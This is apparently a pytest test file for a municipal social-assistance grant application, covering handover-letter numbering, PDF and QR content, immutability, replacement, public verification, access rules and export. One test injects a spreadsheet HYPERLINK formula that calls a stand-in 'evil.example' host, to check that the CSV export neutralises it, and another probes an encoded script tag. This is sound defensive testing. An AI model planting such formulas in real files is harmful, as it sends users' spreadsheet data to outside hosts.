"""Grant letters: numbering, content, QR code, stored bytes, replacement, verification, access, export."""
from __future__ import annotations

import csv
import glob
import hashlib
import io
import re
import shutil
import subprocess
import zipfile
from datetime import date

import pytest
import sqlalchemy as sa
from pypdf import PdfReader

from kube.core.errors import Conflict, InvalidTransition, ValidationFailed
from kube.core.identity import mask_nik
from kube.extensions import db as _db
from kube.ledger import letters, operations
from kube.ledger.models import Grant, Letter, LetterIsFinal, LetterSequence
from tests.factories import TENT_LINES, api_token, make_budget, make_grant, make_group
from tests.statements import page_statement_count

OFFICER_NIP = "198703152010012004"
HANDOVER = date(2025, 8, 28)  # a Thursday
TODAY = date(2026, 11, 28)


# -- helpers shared with the other letter tests --------------------------------------------------

def pdf_pages(pdf: bytes) -> list[str]:
    """The text of each page, whitespace collapsed (justified lines come out with double spaces)."""
    return [" ".join((page.extract_text() or "").split()) for page in PdfReader(io.BytesIO(pdf)).pages]


def qr_codes(pdf: bytes, tmp_path, page: int = 1) -> list[str]:
    """Decode the QR codes on one page: pdftoppm renders it, zbarimg reads it (both must be installed)."""
    for tool in ("pdftoppm", "zbarimg"):
        if shutil.which(tool) is None:
            pytest.fail(f"{tool} is missing: install poppler-utils and zbar-tools (scripts/test-system-packages.txt)")
    source = tmp_path / "letter.pdf"
    source.write_bytes(pdf)
    prefix = tmp_path / f"page{page}"
    subprocess.run(["pdftoppm", "-png", "-r", "150", "-f", str(page), "-l", str(page), str(source), str(prefix)],
                   check=True, capture_output=True)
    (image,) = glob.glob(f"{prefix}*.png")
    found = subprocess.run(["zbarimg", "--raw", "-q", image], capture_output=True, text=True)
    return found.stdout.split()


def handed_over(maker, checker, **values) -> Grant:
    """A grant handed over on HANDOVER (its letter issued in the same step); flushed."""
    values.setdefault("handover_date", HANDOVER)
    return make_grant(maker, checker, status="handed_over", **values)


def letter_of(grant: Grant) -> Letter:
    return letters.current_letter(grant.id)


@pytest.fixture
def staff(staff, db):
    """conftest's staff; the maker who hands over signs letters with a NIP and position; KUBE and UEP 2025 have
    budgets (only the tests that hand over pay for them)."""
    staff["maker"].nip, staff["maker"].position = OFFICER_NIP, "Pendamping Kube"
    make_budget(staff["maker"])
    make_budget(staff["maker"], program="UEP")
    db.session.commit()
    return staff


# -- numbers ----------------------------------------------------------------------------------

def test_number_pattern_and_roman_months(app):
    pattern = app.config["LETTER_NUMBER_PATTERN"]
    assert letters.format_letter_number(pattern, 17, date(2024, 8, 28), "KUBE") == "460/017/BAST-Dinsos/VIII/2024"
    assert letters.format_letter_number(pattern, 1234, date(2025, 12, 1), "UEP") == "460/1234/BAST-Dinsos/XII/2025"
    assert letters.format_letter_number("BAST/{program}/{year}/{month:02d}/{seq}", 5, date(2025, 3, 9), "UEP") \
        == "BAST/UEP/2025/03/5"


@pytest.mark.parametrize("pattern", ["460/{seq}/BAST", "460/{nomor}/{year}", "460/{seq:03d}/{year}/{", "{year}"])
def test_unsafe_number_patterns_are_refused_at_startup(pattern):
    from config import ConfigError, TestConfig
    from kube import create_app

    with pytest.raises(ConfigError):
        create_app(TestConfig, LETTER_NUMBER_PATTERN=pattern)


def test_numbers_are_sequential_per_year_and_restart_each_year(db, staff):
    maker, checker = staff["maker"], staff["checker"]
    group = make_group(maker, members=5, status="active")
    first = [handed_over(maker, checker, group=group) for _ in range(3)]
    next_year = handed_over(maker, checker, group=group, handover_date=date(2026, 1, 5))
    uep = handed_over(maker, checker, group=group, program="UEP", handover_date=date(2026, 2, 10),
                      lines=[{"kind": "cash", "item": "Uang tunai", "unit_value": 2_500_000}])
    db.session.commit()
    assert [g.letter_number for g in first] == [f"460/00{i}/BAST-Dinsos/VIII/2025" for i in (1, 2, 3)]
    assert next_year.letter_number == "460/001/BAST-Dinsos/I/2026"
    assert uep.letter_number == "460/002/BAST-Dinsos/II/2026"  # one sequence per year, whatever the program
    assert {row.year: row.last_seq for row in db.session.scalars(sa.select(LetterSequence))} == {2025: 3, 2026: 2}


def test_a_failed_handover_uses_no_number(db, staff, monkeypatch):
    maker, checker = staff["maker"], staff["checker"]
    group = make_group(maker, members=5, status="active")
    handed_over(maker, checker, group=group)
    approved = make_grant(maker, checker, status="approved", group=group)
    approved.approved_at = approved.approved_at.replace(year=2025, month=8, day=1)
    db.session.commit()
    approved_id = approved.id

    def broken(*args, **kwargs):
        raise RuntimeError("renderer crashed")

    monkeypatch.setattr(letters, "render_pdf", broken)
    with pytest.raises(RuntimeError):
        operations.handover_grant(approved, HANDOVER, group.ketua, maker, today=TODAY)
    db.session.rollback()
    monkeypatch.undo()
    approved = db.session.get(Grant, approved_id)
    assert approved.status == "approved" and approved.letter_number is None
    operations.handover_grant(approved, HANDOVER, approved.group.ketua, maker, today=TODAY)
    db.session.commit()
    assert approved.letter_number == "460/002/BAST-Dinsos/VIII/2025"  # 2 follows 1: nothing skipped
    assert db.session.scalars(sa.select(Letter.seq).order_by(Letter.seq)).all() == [1, 2]


def test_a_letter_is_issued_once(db, staff):
    maker, checker = staff["maker"], staff["checker"]
    grant = handed_over(maker, checker)
    with pytest.raises(Conflict):
        letters.issue_letter(grant, maker)
    approved = make_grant(maker, checker, status="approved")
    with pytest.raises(InvalidTransition):
        letters.issue_letter(approved, maker)


# -- what the letter says -------------------------------------------------------------------------

def test_letter_text_has_number_parties_items_totals_and_masked_annex(db, staff, tmp_path):
    maker, checker = staff["maker"], staff["checker"]
    group = make_group(maker, members=6, status="active", name="Kube Sauyunan")
    grant = handed_over(maker, checker, group=group)
    db.session.commit()
    letter = letter_of(grant)
    pages = pdf_pages(letter.pdf)
    first, last = pages[0], pages[-1]
    ketua = group.ketua
    url = f"http://127.0.0.1:5000/verify/{letter.token}"

    assert len(pages) == 2
    assert "BERITA ACARA SERAH TERIMA BARANG" in first
    assert "Nomor: 460/001/BAST-Dinsos/VIII/2025" in first
    assert ("Pada hari ini Kamis tanggal dua puluh delapan bulan Agustus tahun dua ribu dua puluh lima "
            "(28-08-2025), kami yang bertanda tangan di bawah ini:") in first
    # PIHAK PERTAMA: the officer who handed over; PIHAK KEDUA: the ketua, with the full NIK on the letter itself.
    assert maker.full_name in first and OFFICER_NIP in first and "Pendamping Kube" in first
    assert "PIHAK PERTAMA" in first and "PIHAK KEDUA" in first
    assert ketua.name in first and ketua.nik in first
    assert f"Ketua Kube Sauyunan ({group.code})" in first
    for line, quantity in zip(TENT_LINES, ("dua (2) unit", "lima puluh (50) buah")):
        assert line["item"] in first and line["specification"] in first and quantity in first
    assert "Rp6.500.000" in first and "Rp13.000.000" in first and "Rp90.000" in first and "Rp4.500.000" in first
    assert "JUMLAH Rp17.500.000" in first
    assert "Terbilang: tujuh belas juta lima ratus ribu rupiah" in first
    assert "Demikian Berita Acara" in first and "Yang Menerima" in first and "Yang Menyerahkan" in first
    assert "METERAI Rp10.000" in first  # more than Rp5.000.000 acknowledged
    assert "Mengetahui" not in first  # no head of office configured
    assert url in first and "Halaman 1 dari 2" in first
    # Page 2: every member on the handover day, NIK masked; no member's full NIK anywhere but the ketua's.
    assert "LAMPIRAN" in last and group.name in last
    for member in group.current_members:
        assert member.name in last and mask_nik(member.nik) in last
        if member.id != ketua.id:
            assert all(member.nik not in page for page in pages)
    assert ketua.nik not in last
    assert url in last
    assert qr_codes(letter.pdf, tmp_path, page=1) == [url]


def test_uep_cash_letter_has_a_cash_line_and_no_stamp(db, staff):
    maker, checker = staff["maker"], staff["checker"]
    group = make_group(maker, members=5, status="active")
    member = group.current_members[-1]
    grant = handed_over(maker, checker, group=group, program="UEP", member=member,
                        lines=[{"kind": "cash", "item": "Uang tunai", "specification": "Modal warung",
                                "unit_value": 2_500_000}])
    db.session.commit()
    first = pdf_pages(letter_of(grant).pdf)[0]
    assert "BERITA ACARA SERAH TERIMA BANTUAN" in first and "BARANG Nomor" not in first
    assert member.name in first and member.nik in first and "Penerima Bantuan UEP" in first
    assert "Uang tunai" in first and "satu (1) paket" in first and "Rp2.500.000" in first
    assert "dua juta lima ratus ribu rupiah" in first
    assert "METERAI" not in first  # Rp2.500.000 is under the stamp-duty threshold


def test_a_uep_letters_annex_names_only_its_recipient(db, staff):
    """A UEP grant is one member's: its printed annex lists that member, not the rest of the group."""
    maker, checker = staff["maker"], staff["checker"]
    group = make_group(maker, members=5, status="active", name="Kube Sauyunan")
    recipient = group.current_members[2]
    grant = handed_over(maker, checker, group=group, program="UEP", member=recipient,
                        lines=[{"kind": "cash", "item": "Uang tunai", "unit_value": 2_500_000}])
    db.session.commit()
    pages = pdf_pages(letter_of(grant).pdf)
    annex = pages[-1]
    assert len(pages) == 2 and "LAMPIRAN" in annex
    assert "Penerima bantuan UEP, anggota Kube Sauyunan" in annex and "Daftar anggota" not in annex
    assert recipient.name in annex and mask_nik(recipient.nik) in annex
    others = [member for member in group.current_members if member.id != recipient.id]
    # Whole names only: "Warga 1" is part of "Warga 13".
    assert [m.name for m in others if any(re.search(rf"\b{re.escape(m.name)}\b", page) for page in pages)] == []
    assert [member.name for member in others if mask_nik(member.nik) in annex] == []


@pytest.mark.parametrize("app_overrides", [pytest.param({"OFFICE_HEAD_NAME": "Drs. H. Hasan Basri, M.Si.",
                                                         "OFFICE_HEAD_NIP": "196805121990031007",
                                                         "LETTER_NUMBER_PATTERN": "BAST/{seq:04d}/{program}/{year}",
                                                         "PUBLIC_BASE_URL": "https://kube.serangkota.go.id/"})])
def test_configured_head_of_office_pattern_and_public_address(db, staff, tmp_path):
    maker, checker = staff["maker"], staff["checker"]
    grant = handed_over(maker, checker)
    db.session.commit()
    letter = letter_of(grant)
    first = pdf_pages(letter.pdf)[0]
    assert letter.number == "BAST/0001/KUBE/2025" and "Nomor: BAST/0001/KUBE/2025" in first
    assert "Mengetahui" in first and "Drs. H. Hasan Basri, M.Si." in first and "196805121990031007" in first
    url = f"https://kube.serangkota.go.id/verify/{letter.token}"
    assert url in first and qr_codes(letter.pdf, tmp_path) == [url]


# -- issued once, kept exactly ----------------------------------------------------------------

def test_stored_bytes_match_their_hash_and_downloads_are_identical(client, db, staff, login):
    maker, checker = staff["maker"], staff["checker"]
    grant = handed_over(maker, checker)
    db.session.commit()
    letter = letter_of(grant)
    assert hashlib.sha256(letter.pdf).hexdigest() == letter.sha256 and len(letter.token) >= 22
    assert letter.pdf.startswith(b"%PDF-")
    login(maker)
    first = client.get(f"/letters/{letter.id}.pdf")
    second = client.get(f"/grants/{grant.id}/letter.pdf")
    api = client.get(f"/api/v1/grants/{grant.id}/letter.pdf", headers=api_token(client, maker))
    for response in (first, second, api):
        assert response.status_code == 200 and response.mimetype == "application/pdf"
        assert response.data == letter.pdf
        assert response.headers["ETag"].strip('"') == letter.sha256
        assert response.headers["X-Letter-Number"] == letter.number


def test_an_issued_letter_cannot_be_changed_or_deleted(db, staff):
    maker, checker = staff["maker"], staff["checker"]
    letter = letter_of(handed_over(maker, checker))
    db.session.commit()
    letter.pdf = b"%PDF-forged"
    with pytest.raises(LetterIsFinal):
        db.session.flush()
    db.session.rollback()
    db.session.delete(db.session.get(Letter, letter.id))
    with pytest.raises(LetterIsFinal):
        db.session.flush()
    db.session.rollback()


# -- replacement --------------------------------------------------------------------------------

def test_officer_replaces_a_letter_after_confirming_with_a_reason(client, db, staff, login):
    maker, checker = staff["maker"], staff["checker"]
    group = make_group(maker, members=5, status="active")
    grant = handed_over(maker, checker, group=group)
    db.session.commit()
    old = letter_of(grant)
    old_id, old_bytes, old_number, ketua_id = old.id, old.pdf, old.number, group.ketua.id
    login(checker)
    page = client.get(f"/letters/{old_id}/replace")
    assert page.status_code == 200 and "Alasan penggantian" in page.get_data(as_text=True)
    refused = client.post(f"/letters/{old_id}/replace", data={"reason": "   "})
    assert refused.status_code == 200 and "Wajib diisi" in refused.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count(Letter.id))) == 1
    # The name was misspelt: fix it, then issue the corrected letter.
    from kube.groups.models import Member
    _db.session.get(Member, ketua_id).name = "Hj. Siti Maesaroh"
    db.session.commit()
    response = client.post(f"/letters/{old_id}/replace", data={"reason": "Nama ketua salah ketik"})
    assert response.status_code == 302 and response.headers["Location"].endswith(f"/grants/{grant.id}/letters")
    db.session.expire_all()
    new = letter_of(db.session.get(Grant, grant.id))
    assert new.id != old_id and new.number == "460/002/BAST-Dinsos/VIII/2025" and new.replaces_id == old_id
    assert new.reason == "Nama ketua salah ketik" and new.issued_by_id == checker.id
    assert db.session.get(Grant, grant.id).letter_number == new.number
    text = pdf_pages(new.pdf)[0]
    assert f"menggantikan Berita Acara Serah Terima Nomor {old_number}" in text and "Hj. Siti Maesaroh" in text
    kept = db.session.get(Letter, old_id)
    assert kept.pdf == old_bytes and not kept.is_valid  # the old letter stays, byte for byte, marked replaced
    history = client.get(f"/grants/{grant.id}/letters").get_data(as_text=True)
    assert old_number in history and new.number in history and "Diganti oleh" in history
    again = client.post(f"/letters/{old_id}/replace", data={"reason": "lagi"})
    assert "sudah diganti" in again.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count(Letter.id))) == 2


def test_replacing_needs_a_reason_and_a_letter_in_force(db, staff):
    maker, checker = staff["maker"], staff["checker"]
    letter = letter_of(handed_over(maker, checker))
    with pytest.raises(ValidationFailed):
        letters.replace_letter(letter, " ", checker)
    new = letters.replace_letter(letter, "NIP petugas salah", checker)
    with pytest.raises(InvalidTransition):
        letters.replace_letter(letter, "sekali lagi", checker)
    assert letters.replace_letter(new, "koreksi kedua", checker).replaces_id == new.id


# -- verification -------------------------------------------------------------------------------

def test_public_verification_page_shows_facts_and_no_personal_data(client, db, staff):
    maker, checker = staff["maker"], staff["checker"]
    group = make_group(maker, members=5, status="active", name="Kube Melati")
    grant = handed_over(maker, checker, group=group)
    db.session.commit()
    letter = letter_of(grant)
    response = client.get(f"/verify/{letter.token}")  # nobody logged in
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    for fact in (letter.number, "28 Agustus 2025", "Dinas Sosial Kota Serang", "Kube Melati", group.code, "Tinggar",
                 "Curug", "Tenda dekorasi", "Kursi lipat", "Rp17.500.000", "tujuh belas juta lima ratus ribu rupiah",
                 letter.sha256, "Sah dan berlaku"):
        assert fact in html, fact
    for member in group.members:
        assert member.nik not in html and mask_nik(member.nik) not in html and member.name not in html
        assert member.address not in html
    assert maker.full_name not in html and OFFICER_NIP not in html
    assert not re.search(r"\d{16}", html.replace(letter.sha256, ""))  # no NIK-shaped number at all


def test_verification_of_a_replaced_letter_says_diganti(client, db, staff):
    maker, checker = staff["maker"], staff["checker"]
    old = letter_of(handed_over(maker, checker))
    new = letters.replace_letter(old, "Spesifikasi tenda salah", checker)
    db.session.commit()
    html = client.get(f"/verify/{old.token}").get_data(as_text=True)
    assert "diganti" in html and new.number in html and f"/verify/{new.token}" in html
    assert "Sah dan berlaku" not in html
    fresh = client.get(f"/verify/{new.token}").get_data(as_text=True)
    assert "Sah dan berlaku" in fresh and old.number in fresh  # it names the letter it replaces


@pytest.mark.parametrize("token", ["bukan-token-yang-ada-sama-sekali", "x", "a" * 200, "%3Cscript%3E"])
def test_unknown_token_gets_a_clear_not_found_page(client, token):
    response = client.get(f"/verify/{token}")
    assert response.status_code == 404
    assert "Berita acara tidak ditemukan" in response.get_data(as_text=True)
    api = client.get(f"/api/v1/verify/{token}")
    assert api.status_code == 404 and api.get_json()["error"]["code"] == "not_found"


def test_api_verification_gives_the_public_facts(client, db, staff):
    maker, checker = staff["maker"], staff["checker"]
    group = make_group(maker, members=5, status="active")
    old = letter_of(handed_over(maker, checker, group=group))
    new = letters.replace_letter(old, "Salah tanggal", checker)
    db.session.commit()
    body = client.get(f"/api/v1/verify/{old.token}").get_json()  # no bearer token
    assert body["number"] == old.number and body["status"] == "replaced" and body["date"] == "2025-08-28"
    assert body["replaced_by"]["number"] == new.number and body["sha256"] == old.sha256
    assert body["total"] == 17_500_000 and body["total_in_words"] == "tujuh belas juta lima ratus ribu rupiah"
    assert [item["item"] for item in body["items"]] == ["Tenda dekorasi", "Kursi lipat"]
    assert body["group"]["code"] == group.code and body["group"]["kelurahan"] == "Tinggar"
    fresh = client.get(f"/api/v1/verify/{new.token}").get_json()
    assert fresh["status"] == "valid" and fresh["replaces"] == old.number and fresh["replaced_by"] is None
    text = str(body)
    for member in group.members:
        assert member.nik not in text and member.name not in text
    assert "nik" not in text.lower()


# -- access -----------------------------------------------------------------------------------

def test_leader_downloads_only_their_own_groups_letter(client, db, staff, login):
    from kube.groups.operations import create_leader_account
    from tests.factories import PASSWORD

    maker, checker = staff["maker"], staff["checker"]
    own, other = (make_group(maker, members=5, status="active") for _ in range(2))
    own_grant, other_grant = handed_over(maker, checker, group=own), handed_over(maker, checker, group=other)
    leader = create_leader_account(own, "ketua_own", own.ketua.name, PASSWORD, actor=maker)
    db.session.commit()
    own_letter, other_letter = letter_of(own_grant), letter_of(other_grant)
    login(leader)
    assert client.get(f"/letters/{own_letter.id}.pdf").data == own_letter.pdf
    assert client.get(f"/grants/{own_grant.id}/letter.pdf").status_code == 200
    assert client.get(f"/grants/{own_grant.id}/letters").status_code == 200
    for url in (f"/letters/{other_letter.id}.pdf", f"/grants/{other_grant.id}/letter.pdf",
                f"/grants/{other_grant.id}/letters"):
        assert client.get(url).status_code == 404, url
    headers = api_token(client, leader)
    assert client.get(f"/api/v1/grants/{own_grant.id}/letter.pdf", headers=headers).data == own_letter.pdf
    assert client.get(f"/api/v1/grants/{other_grant.id}/letter.pdf", headers=headers).status_code == 404
    assert client.get(f"/letters/{own_letter.id}/replace").status_code == 403
    assert client.get("/letters").status_code == 403


def test_viewer_downloads_but_cannot_replace_or_export(client, db, staff, users, login):
    maker, checker = staff["maker"], staff["checker"]
    letter = letter_of(handed_over(maker, checker))
    db.session.commit()
    login(users["viewer"])
    assert client.get(f"/letters/{letter.id}.pdf").data == letter.pdf
    assert client.get("/letters?year=2025").status_code == 200
    assert client.get(f"/letters/{letter.id}/replace").status_code == 403
    assert client.post(f"/letters/{letter.id}/replace", data={"reason": "x"}).status_code == 403
    assert client.get("/letters/export?year=2025&fmt=zip").status_code == 403
    assert db.session.scalar(sa.select(sa.func.count(Letter.id))) == 1


def test_anonymous_visitors_only_verify(client, db, staff):
    maker, checker = staff["maker"], staff["checker"]
    grant = handed_over(maker, checker)
    db.session.commit()
    letter = letter_of(grant)
    assert client.get(f"/letters/{letter.id}.pdf").status_code == 302
    assert client.get(f"/api/v1/grants/{grant.id}/letter.pdf").status_code == 401
    assert client.get(f"/verify/{letter.token}").status_code == 200


def test_grant_without_letter_is_404(client, db, staff, login):
    maker, checker = staff["maker"], staff["checker"]
    grant = make_grant(maker, checker, status="approved")
    db.session.commit()
    login(maker)
    assert client.get(f"/grants/{grant.id}/letter.pdf").status_code == 404
    assert client.get(f"/grants/{grant.id}/letters").status_code == 200
    assert client.get("/letters/2147483648.pdf").status_code == 404
    response = client.get(f"/api/v1/grants/{grant.id}/letter.pdf", headers=api_token(client, maker))
    assert response.status_code == 404 and response.get_json()["error"]["code"] == "not_found"


# -- the list and bulk export -------------------------------------------------------------------

def test_letter_list_loads_in_a_fixed_number_of_queries(app, client, db, staff, login):
    maker, checker = staff["maker"], staff["checker"]
    group = make_group(maker, members=5, status="active")
    first = handed_over(maker, checker, group=group)
    letters.replace_letter(letter_of(first), "koreksi", checker)
    db.session.commit()
    login(maker)
    few = page_statement_count(app, db, client, "/letters?year=2025")
    for _ in range(3):
        grant = handed_over(maker, checker, group=group)
        letters.replace_letter(letter_of(grant), "koreksi", checker)
    db.session.commit()
    many = page_statement_count(app, db, client, "/letters?year=2025")
    assert many == few
    html = client.get("/letters?year=2025").get_data(as_text=True)
    assert html.count("Diganti oleh") == 4 and "460/008/BAST-Dinsos/VIII/2025" in html


def test_letter_list_refuses_bad_filters_clearly(client, db, staff, login):
    login(staff["maker"])
    response = client.get("/letters?year=dua-ribu&program=BANSOS")
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "Tahun harus angka antara 2000 dan 2100." in html and "Program tidak dikenal." in html


def _export_fixture(maker, checker):
    group = make_group(maker, members=5, status="active")
    kube = [handed_over(maker, checker, group=group) for _ in range(2)]
    uep = handed_over(maker, checker, group=group, program="UEP",
                      lines=[{"kind": "cash", "item": "Uang tunai", "unit_value": 2_500_000}])
    replaced = letters.replace_letter(letter_of(kube[0]), "koreksi", checker)
    return kube, uep, replaced


def test_cli_exports_a_year_as_zip_and_pdf(runner, db, staff, tmp_path):
    maker, checker = staff["maker"], staff["checker"]
    _export_fixture(maker, checker)
    db.session.commit()
    stored = {letter.number: letter for letter in db.session.scalars(sa.select(Letter))}

    result = runner.invoke(args=["letters", "export", "--year", "2025", str(tmp_path / "out" / "bast.zip")])
    assert result.exit_code == 0, result.output
    assert "Wrote 4 letters" in result.output
    with zipfile.ZipFile(tmp_path / "out" / "bast.zip") as archive:
        names = archive.namelist()
        rows = list(csv.DictReader(io.StringIO(archive.read(letters.MANIFEST_NAME).decode("utf-8-sig"))))
        assert len(names) == 5 and len(rows) == 4
        for row in rows:
            content = archive.read(row["berkas"])
            assert hashlib.sha256(content).hexdigest() == row["sha256"] == stored[row["nomor"]].sha256
        assert [row["status"] for row in rows] == ["diganti", "berlaku", "berlaku", "berlaku"]
        assert rows[3]["menggantikan"] == rows[0]["nomor"] and rows[0]["diganti_oleh"] == rows[3]["nomor"]

    result = runner.invoke(args=["letters", "export", "--year", "2025", "--program", "UEP", str(tmp_path / "uep.pdf")])
    assert result.exit_code == 0, result.output
    pages = pdf_pages((tmp_path / "uep.pdf").read_bytes())
    assert len(pages) == 2 and "460/003/BAST-Dinsos/VIII/2025" in pages[0]
    result = runner.invoke(args=["letters", "export", "--year", "2025", str(tmp_path / "all.pdf")])
    assert result.exit_code == 0 and len(pdf_pages((tmp_path / "all.pdf").read_bytes())) == 8


def test_cli_export_refuses_bad_requests_and_writes_nothing(runner, db, staff, tmp_path):
    tmp_path = tmp_path / "exports"  # the test database lives in tmp_path itself
    tmp_path.mkdir()
    result = runner.invoke(args=["letters", "export", "--year", "2025", str(tmp_path / "none.zip")])
    assert result.exit_code != 0 and "No letters issued in 2025" in result.output
    result = runner.invoke(args=["letters", "export", "--year", "2025", str(tmp_path / "letters.docx")])
    assert result.exit_code == 2 and ".pdf or .zip" in result.output
    result = runner.invoke(args=["letters", "export", "--year", "1990", str(tmp_path / "old.zip")])
    assert result.exit_code == 2
    assert list(tmp_path.iterdir()) == []


def test_officer_exports_the_filtered_list_from_the_web(client, db, staff, login):
    maker, checker = staff["maker"], staff["checker"]
    _export_fixture(maker, checker)
    db.session.commit()
    login(maker)
    page = client.get("/letters?year=2025&program=KUBE").get_data(as_text=True)
    assert "Unduh semua (3)" in page
    response = client.get("/letters/export?year=2025&program=KUBE&fmt=zip")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    assert "berita-acara-2025-KUBE.zip" in response.headers["Content-Disposition"]
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        assert len([n for n in archive.namelist() if n.endswith(".pdf")]) == 3
    response = client.get("/letters/export?year=2025&fmt=pdf")
    assert response.status_code == 200 and len(pdf_pages(response.data)) == 8
    for query, message in (("year=2024&fmt=zip", "Tidak ada berita acara untuk tahun 2024"),
                           ("year=2025&fmt=docx", "Format unduhan harus PDF atau ZIP."),
                           ("year=abc", "Tahun harus angka antara 2000 dan 2100.")):
        response = client.get(f"/letters/export?{query}", follow_redirects=True)
        assert response.status_code == 200 and message in response.get_data(as_text=True), query


def test_the_export_list_keeps_a_formula_in_a_group_name_as_text(client, db, staff, login, bearer):
    maker, checker = staff["maker"], staff["checker"]
    group = make_group(maker, members=5, status="active")
    db.session.commit()
    formula = '=HYPERLINK("http://evil.example/?g="&A2,"Lihat")'
    response = client.patch(f"/api/v1/groups/{group.id}", json={"name": formula}, headers=bearer(maker))
    assert response.status_code == 200, response.get_json()
    handed_over(maker, checker, group=group)
    db.session.commit()
    login(maker)
    response = client.get("/letters/export?year=2025&fmt=zip")
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        [row] = csv.DictReader(io.StringIO(archive.read(letters.MANIFEST_NAME).decode("utf-8-sig")))
    assert row["nama_kelompok"] == "'" + formula and row["total_rupiah"] == "17500000"
